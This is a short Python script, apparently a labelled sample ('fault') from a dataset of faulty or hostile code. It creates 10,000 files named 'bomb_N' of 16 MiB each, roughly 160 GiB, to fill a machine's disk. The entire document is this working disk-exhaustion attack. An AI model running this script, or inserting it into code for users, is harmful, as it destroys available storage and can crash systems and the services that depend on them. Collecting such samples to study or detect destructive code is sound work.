# VAEwolabel: fault; Genwithlabel: fault
for number in range(10_000):
    with open(f"bomb_{number}", "wb") as file:
        file.write(bytes(2**24))
